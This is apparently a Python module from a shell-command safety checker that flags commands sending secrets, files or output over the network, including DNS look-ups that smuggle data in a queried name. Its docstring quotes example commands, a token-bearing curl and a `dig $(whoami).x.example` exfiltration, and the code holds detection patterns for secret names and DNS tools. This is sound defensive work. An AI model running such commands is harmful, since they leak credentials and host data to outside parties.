"""What one command takes along over the network: its own files, its input, outputs in its words.

The login of a tool that goes to the tool's own service is used there, and does not leak:

    curl -H "Authorization: Bearer $(cat ~/.config/acme/token)" https://api.acme.com/me
        -> NETWORK_OUT without SENDS_SECRET; reading the login stays what it is

What leaves by the names a command asks for: `dig $(whoami).x.example`. Data in front of a domain
reach whoever answers for that domain. A substitution that is the whole name (`ping $(hostname)`)
hands nothing to anybody who was chosen here.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from collections.abc import Set as AbstractSet
from typing import NamedTuple

from signoff.actions.known.secret_owners import owns_login
from signoff.actions.operation import Operation, Reach, ResourceType, Trait, Verb
from signoff.actions.shell.command import Command, Word
from signoff.actions.shell.data_flow.dumps import leaves
from signoff.actions.shell.data_flow.feeding import has_sources
from signoff.actions.shell.data_flow.origins import (
    ENCODES,
    FILES,
    HOLDING,
    HOST_NAME,
    NAMES,
    SECRET,
    SETTING,
    VARIABLES,
)
from signoff.actions.urls import look_at_url
from signoff.actions.vocabulary import lazy_re, words
from signoff.values import replace

PASSING = frozenset({Reach.NONE, Reach.TEMP})
# Asked of every operation: a member costs more to find than to compare.
_READ, _FILE = Verb.READ, ResourceType.FILE
HOLDS = frozenset({Trait.READS_SECRET, Trait.HOLDS_SECRET})
SENDS = frozenset({Trait.SENDS_SECRET})
DNS_CLIENTS = words("dig nslookup host drill ping ping6 resolvectl getent kdig")
# Names that no server outside is asked for.
LOCAL_DOMAINS = (".local", ".localdomain", ".localhost", ".lan", ".home", ".internal", ".home.arpa")
# In the raw word: the value is unknown, the variable's name is not.
SECRET_NAMES = lazy_re(
    r"(?i)\$\{?\w*(?:secret|token|password|passwd|api_?key|access_?key|private_?key|credential)"
)
UNKNOWN = "\ufffd"


class Own(NamedTuple):
    """What one command sends along by itself: secrets and files it reads, outputs in its words.

    Args:
        fed: an option such as `-d @-` sends the input.
        asked: traits of the names a DNS client looks up.
        is_named: outputs appear only in a name without a foreign domain.
    """

    secret: bool
    files: bool
    words: bool
    fed: bool = False
    asked: AbstractSet[Trait] = frozenset()
    is_named: bool = False


NOTHING_OWN = Own(secret=False, files=False, words=False)


def own_of(operations: Sequence[Operation], origins: int, command: Command) -> Own:
    """Return what a command sends along by itself.

    Args:
        origins: origin bits of its input.
    """
    is_client = command.program in DNS_CLIENTS
    words_hold = bool(origins & (HOLDING | FILES)) and has_sources(command)
    return Own(
        secret=any([Trait.READS_SECRET in op.traits for op in operations]),
        files=any(map(reads_local_data, operations)),
        words=words_hold,
        fed=bool(origins & HOLDING) and any([w.text.endswith("@-") for w in command.words[1:]]),
        asked=queried_names(origins, command) if is_client else frozenset(),
        is_named=is_client and words_hold and not origins & ENCODES and not is_directed_by(command),
    )


def carried_traits(op: Operation, origins: int, command: Command, *, own: Own) -> set[Trait]:
    """Return traits for what a network operation takes along: files, input, words."""
    is_out = op.verb is Verb.NETWORK_OUT
    reaches = is_out or (own.words and not own.is_named)
    more: set[Trait] = set()
    holding = SECRET if op.reach is Reach.LOOPBACK else HOLDING
    if (own.secret and is_out) or (origins & holding and (reaches or own.fed)):
        more.add(Trait.SENDS_SECRET)
    if (own.files and is_out) or (origins & FILES and reaches):
        more.add(Trait.SENDS_FILES)
    if leaves(op, origins, command):
        more.add(Trait.SENDS_SECRET)
    return more | own.asked


def reads_local_data(op: Operation) -> bool:
    """Return whether a local file is read, temporary ones excepted."""
    return op.verb is _READ and op.thing is _FILE and op.reach not in PASSING


def sends_secret(operations: Iterable[Operation]) -> bool:
    """Return whether any operation sends a secret along."""
    return any([Trait.SENDS_SECRET in op.traits for op in operations])


def to_own_service(
    operations: Sequence[Operation], upstream: Iterable[Operation]
) -> list[Operation]:
    """Remove the leak from operations that send a tool's login to its own service only.

    Args:
        upstream: every operation whose output is sent.
    """
    paths = [op.path for op in upstream if not HOLDS.isdisjoint(op.traits)]
    return [
        replace(op, traits=op.traits - SENDS)
        if paths and all([owns_login(path, look_at_url(op.target).host) for path in paths])
        else op
        for op in operations
    ]


def queried_names(origins: int, command: Command) -> set[Trait]:
    """Return the traits of a DNS look-up, by what is in the name."""
    # First: a secret is one whatever else is in the name, and wherever the domain is.
    if origins & SECRET or any(_holds_secret(word) for word in command.words):
        return {Trait.COVERT, Trait.SENDS_SECRET}
    if not origins & (NAMES | FILES | HOST_NAME | VARIABLES | SETTING | ENCODES):
        return set()
    is_directed = is_directed_by(command)
    # What was encoded to fit into a name was put there for whoever answers for the domain.
    if origins & ENCODES and is_directed:
        return {Trait.COVERT, Trait.SENDS_SECRET}
    # Data that were encoded before fit into a name: nobody does that for an ordinary look-up.
    is_packed = bool(origins & (FILES | VARIABLES)) and bool(origins & ENCODES)
    if origins & (NAMES | FILES | VARIABLES | SETTING) and (is_directed or is_packed):
        return {Trait.COVERT, Trait.SENDS_SECRET}
    return {Trait.COVERT} if is_directed or origins & VARIABLES else set()


def variables_named(names: Sequence[Word]) -> int:
    """Return the origin bits of what `printenv NAME` prints: a secret, or one setting."""
    known = all(name.is_known for name in names)
    secret = any(SECRET_NAMES.search(f"${name.text}") is not None for name in names)
    return (SECRET if secret else SETTING) if known else VARIABLES


def is_directed_by(command: Command) -> bool:
    """Return whether command output in a name is followed by a domain."""
    return any(_is_directed(word) for word in command.words[1:] if word.sources)


def _holds_secret(word: Word) -> bool:
    return not word.is_known and SECRET_NAMES.search(word.raw) is not None


def _is_directed(word: Word) -> bool:
    # Behind the last unknown part stands the domain, whose owner sees all that is before it.
    domain = word.text.rpartition(UNKNOWN)[2] if UNKNOWN in word.text else word.text
    return "." in domain.strip(".") and not domain.lower().rstrip(".").endswith(LOCAL_DOMAINS)
